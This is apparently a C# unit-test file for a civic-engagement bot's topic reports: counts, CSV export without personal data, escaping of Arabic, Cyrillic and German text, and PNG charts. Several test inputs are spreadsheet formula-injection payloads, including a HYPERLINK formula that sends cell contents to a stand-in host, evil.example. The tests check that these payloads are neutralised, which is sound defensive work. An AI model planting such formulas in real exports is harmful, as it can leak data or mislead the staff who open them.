using System.Text;
using BennBot.Worker.Topics;
using CsvHelper;

namespace BennBot.Tests.Topics;

public sealed class TopicReportTests
{
    private const long Submitter = 987654321, Follower = 876543219;

    private static readonly string[] Header =
    [
        "id", "submitted", "month", "language_id", "language", "field_id", "field", "category_id", "category", "area_id", "area",
        "status_id", "status", "kind", "text", "public_wording", "supporters", "merged_into", "response",
    ];

    private static Topic T(long id, int month, int day = 10, string? text = "Mehr Bänke am Weißen See",
        string language = "de", string? area = "weisser-see", TopicCategory category = TopicCategory.Leisure,
        FieldOfAction field = FieldOfAction.Encounter, TopicStatus status = TopicStatus.New) => new()
        {
            Id = id,
            Text = text,
            Language = language,
            Area = area,
            Category = category,
            Field = field,
            Status = status,
            SubmittedAt = new DateTime(2026, month, day, 9, 30, 0, DateTimeKind.Utc),
            SubmitterId = Submitter + id,
            Followers = [Follower],
            Contactable = true,
        };

    private static List<Topic> Sample() =>
    [
        T(1, 3, category: TopicCategory.Housing, field: FieldOfAction.Empowerment, language: "ar", area: "hansa"),
        T(2, 3, category: TopicCategory.Housing, status: TopicStatus.Planned, area: null),
        T(3, 5, category: TopicCategory.School, language: "ru", status: TopicStatus.Done),
        T(4, 5, category: TopicCategory.Safety) with { Hidden = true },
        T(5, 6, category: TopicCategory.Housing, language: "tr") with { MergedInto = 1 },
        T(6, 1, category: TopicCategory.Work, language: "uk", area: "hansa", status: TopicStatus.NotPursued),
    ];

    private static List<string[]> ReadBack(byte[] csv, char? separator = null)
    {
        using var reader = CsvReader.Create(csv, CsvReaderOptions.Default with { HasHeader = false, Separator = separator });
        var rows = new List<string[]>();
        while (reader.Read())
            rows.Add([.. Enumerable.Range(0, reader.FieldCount).Select(reader.GetString)]);
        return rows;
    }

    [Fact]
    public void Counts_list_every_enum_value_in_order_and_leave_out_hidden_and_merged_topics()
    {
        var stats = TopicReport.Count(Sample());

        Assert.Equal(4, stats.Total);
        Assert.Equal(
            [("Unassigned", 0), ("Encounter", 3), ("Empowerment", 1), ("Dialogue", 0), ("Networks", 0)], stats.ByField);
        Assert.Equal(Enum.GetNames<TopicCategory>(), stats.ByCategory.Select(c => c.Key));
        Assert.Equal(2, stats.ByCategory.Single(c => c.Key == "Housing").Count);   // the merged one counts in #1
        Assert.Equal(0, stats.ByCategory.Single(c => c.Key == "Safety").Count);   // hidden
        Assert.Equal(
            [("New", 1), ("InReview", 0), ("Planned", 1), ("Done", 1), ("NotPursued", 1)], stats.ByStatus);
        Assert.Equal([("hansa", 2), ("none", 1), ("weisser-see", 1)], stats.ByArea);
        Assert.Equal([("ar", 1), ("de", 1), ("ru", 1), ("uk", 1)], stats.ByLanguage);
        Assert.Equal([("2026-01", 1), ("2026-03", 2), ("2026-05", 1)], stats.ByMonth);
    }

    [Fact]
    public void Counts_of_nothing_are_zero_rows_and_empty_lists()
    {
        var stats = TopicReport.Count([]);

        Assert.Equal(0, stats.Total);
        Assert.Equal(5, stats.ByField.Count);
        Assert.Equal(10, stats.ByCategory.Count);
        Assert.All(stats.ByStatus.Concat(stats.ByCategory).Concat(stats.ByField), c => Assert.Equal(0, c.Count));
        Assert.Empty(stats.ByArea);
        Assert.Empty(stats.ByLanguage);
        Assert.Empty(stats.ByMonth);
    }

    [Fact]
    public void Csv_is_utf8_with_bom_and_crlf_has_exactly_the_columns_and_no_personal_data()
    {
        var voice = T(7, 2, text: null) with { VoiceFileId = "AwACAgIAAxkBAAIVoice", VoiceSeconds = 12 };
        var csv = TopicReport.Csv([.. Sample(), voice]);

        Assert.Equal([0xEF, 0xBB, 0xBF], csv[..3]);
        var text = Encoding.UTF8.GetString(csv, 3, csv.Length - 3);
        Assert.StartsWith(string.Join(',', Header) + "\r\n", text);
        Assert.DoesNotContain("\n", text.Replace("\r\n", ""));
        Assert.DoesNotContain("987654321", text);   // submitter ids
        Assert.DoesNotContain("876543219", text);   // followers
        Assert.DoesNotContain("AwACAgIAAxkBAAIVoice", text);
        Assert.DoesNotContain("True", text);        // contact consent

        var rows = ReadBack(csv);
        Assert.Equal(Header, rows[0]);
        // Hidden #4 is left out; merged #5 is in; oldest first.
        Assert.Equal(["6", "7", "1", "2", "3", "5"], rows.Skip(1).Select(r => r[0]));
        // Without content to take labels from, each label is its id.
        Assert.Equal(["7", "2026-02-10", "2026-02", "de", "de", "encounter", "Encounter", "leisure", "Leisure", "weisser-see", "weisser-see",
            "new", "New", "voice", "", "", "0", "", ""], rows[2]);
        Assert.Equal(["2", "2026-03-10", "2026-03", "de", "de", "encounter", "Encounter", "housing", "Housing", "", "", "planned", "Planned", "text",
            "Mehr Bänke am Weißen See", "", "0", "", ""], rows[4]);
        Assert.Equal("1", rows[6][17]);
    }

    [Fact]
    public void Csv_keeps_arabic_and_cyrillic_and_escapes_commas_quotes_and_line_breaks()
    {
        const string arabic = "نحتاج إلى مكان للقاء الجيران";
        const string cyrillic = "Нужна детская площадка, «пожалуйста»";
        const string tricky = "Ampel, bitte: \"sicherer\" Schulweg\nzweite Zeile\r\ndritte";
        var csv = TopicReport.Csv(
        [
            T(1, 3, text: arabic, language: "ar") with { PublicWording = "Treffpunkt für Nachbarn", Supporters = 4 },
            T(2, 3, text: cyrillic, language: "ru") with { Response = "Wir prüfen das, danke!" },
            T(3, 3, text: tricky),
        ]);

        var text = Encoding.UTF8.GetString(csv);
        Assert.Contains(arabic, text);
        Assert.Contains("\"Ampel, bitte: \"\"sicherer\"\" Schulweg\nzweite Zeile\r\ndritte\"", text);
        var rows = ReadBack(csv);
        Assert.Equal(4, rows.Count);
        Assert.Equal([arabic, "Treffpunkt für Nachbarn", "4"], rows[1][14..17]);
        Assert.Equal(cyrillic, rows[2][14]);
        Assert.Equal("Wir prüfen das, danke!", rows[2][18]);
        Assert.Equal(tricky, rows[3][14]);
    }

    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example\",\"click\")")]
    [InlineData("+49 30 1234")]
    [InlineData("-1+1")]
    [InlineData("@SUM(A1:A2)")]
    public void Csv_does_not_export_a_text_that_a_spreadsheet_would_run_as_a_formula(string formula)
    {
        var csv = TopicReport.Csv([T(1, 3, text: formula) with { Response = formula, PublicWording = formula }]);

        var row = ReadBack(csv)[1];
        Assert.All(new[] { row[14], row[15], row[18] }, field => Assert.Equal("'" + formula, field));
        Assert.DoesNotContain("," + formula, Encoding.UTF8.GetString(csv));
    }

    // Issue 19: German Excel splits a .csv it opens directly at ';'. Only the field's first character was escaped and a
    // field with ';' was not quoted, so "ok;=1+1;" became a cell that was exactly =1+1.
    [Theory]
    [InlineData("ok;=1+1;")]
    [InlineData("x;=HYPERLINK(ZEICHEN(104)&ZEICHEN(116)&\"tp://evil.example/?\"&A2);")]
    [InlineData("Liste: Bänke, +Spielplatz; @Müll")]
    [InlineData("a ; -1+2 ,  =SUMME(A1:A9)")]
    public void Csv_read_with_either_separator_has_no_cell_that_starts_a_formula(string topic)
    {
        var topics = new[] { T(1, 3, text: topic) with { Response = topic, PublicWording = topic } };
        foreach (var staff in new[] { BennBot.Content.Languages.German, BennBot.Content.Languages.English })
        {
            var csv = TopicReport.Csv(topics, staffLanguage: staff);
            foreach (var separator in new[] { ';', ',' })
            {
                var rows = ReadBack(csv, separator);
                Assert.All(rows.SelectMany(r => r), c => Assert.DoesNotMatch(@"^\s*[=+\-@]", c));
                Assert.Equal(2, rows.Count); // header and the one topic: no line split into more rows
            }
            // With the file's own separator every field comes back whole, the texts defused but otherwise as written.
            var row = ReadBack(csv, TopicCsv.SeparatorFor(staff))[1];
            Assert.Equal(Header.Length, row.Length);
            Assert.Equal(row[14], row[18]);
            Assert.Equal(topic, row[14].Replace("'", ""));
        }
    }

    [Fact]
    public void Csv_for_german_staff_is_separated_by_semicolons_and_reads_back_whole()
    {
        const string topic = "Ampel; bitte =sicherer, -schneller";
        var csv = TopicReport.Csv([T(1, 3, text: topic)], staffLanguage: BennBot.Content.Languages.German);

        Assert.StartsWith(string.Join(';', Header) + "\r\n", Encoding.UTF8.GetString(csv, 3, csv.Length - 3));
        var row = ReadBack(csv, ';')[1];
        Assert.Equal(Header.Length, row.Length);
        Assert.Equal("Ampel; bitte =sicherer, '-schneller", row[14]); // only a part's start is a formula start
        Assert.Equal("Mehr Bänke am Weißen See", ReadBack(TopicReport.Csv([T(2, 3)], staffLanguage: BennBot.Content.Languages.German), ';')[1][14]);
    }

    [Fact]
    public void Csv_since_keeps_the_topics_submitted_on_or_after_it()
    {
        var topics = Sample();
        var since = new DateTime(2026, 5, 10, 9, 30, 0, DateTimeKind.Utc);

        Assert.Equal(["3", "5"], ReadBack(TopicReport.Csv(topics, since)).Skip(1).Select(r => r[0]));
        Assert.Equal(["5"], ReadBack(TopicReport.Csv(topics, since.AddTicks(1))).Skip(1).Select(r => r[0]));
        Assert.Equal([Header], ReadBack(TopicReport.Csv(topics, new DateTime(2027, 1, 1, 0, 0, 0, DateTimeKind.Utc))));
        Assert.Equal([Header], ReadBack(TopicReport.Csv([])));
    }

    [Fact]
    public void Chart_is_a_png_of_about_1000_by_700_also_with_arabic_labels()
    {
        var stats = TopicReport.Count(Sample());
        string Arabic(string dimension, string key) => key == "" ? "الفئة" : dimension == "area" ? key : "فئة " + key;

        var png = TopicReport.Chart(stats, "موضوعات التمكين – 25.11.2026 (4)\nEmpowerment-Themen", Arabic);
        var again = TopicReport.Chart(stats, "موضوعات التمكين – 25.11.2026 (4)\nEmpowerment-Themen", Arabic);

        Assert.Equal([0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A], png[..8]);
        Assert.True(png.Length > 10_000, $"{png.Length} bytes");
        Assert.Equal(png, again);   // the first chart in a process looks like every later one (fonts settled)
        Assert.Equal(1000, System.Buffers.Binary.BinaryPrimitives.ReadInt32BigEndian(png.AsSpan(16)));   // IHDR width
        Assert.Equal(700, System.Buffers.Binary.BinaryPrimitives.ReadInt32BigEndian(png.AsSpan(20)));    // height
        Assert.Equal([0x89, 0x50, 0x4E, 0x47], TopicReport.Chart(TopicReport.Count([]), "", (_, k) => k)[..4]);
    }

    [Fact]
    public void Chart_without_its_font_throws_a_clear_exception_instead_of_drawing_boxes()
    {
        var e = Assert.Throws<TopicChartUnavailableException>(() =>
            TopicChart.Render(TopicReport.Count(Sample()), "Themen", (_, k) => k, "No Such Font Family"));
        Assert.Contains("fonts-dejavu-core", e.Message);
    }

    [Theory]
    [InlineData("Kategorie 14", "Kategorie 14")]
    [InlineData("الفئة 14", "الفئة 41")]
    [InlineData("موضوعات – 25.11.2026 (120)", "موضوعات – 6202.11.52 (021)")]
    [InlineData("فئة category (BENN 2026)", "فئة (6202 NNEB) yrogetac")]
    [InlineData("2026-05", "2026-05")]
    public void Right_to_left_labels_have_their_numbers_and_latin_words_reversed_for_the_shaper(string line,
        string visual) => Assert.Equal(visual, ChartBidi.Visual(line));
}
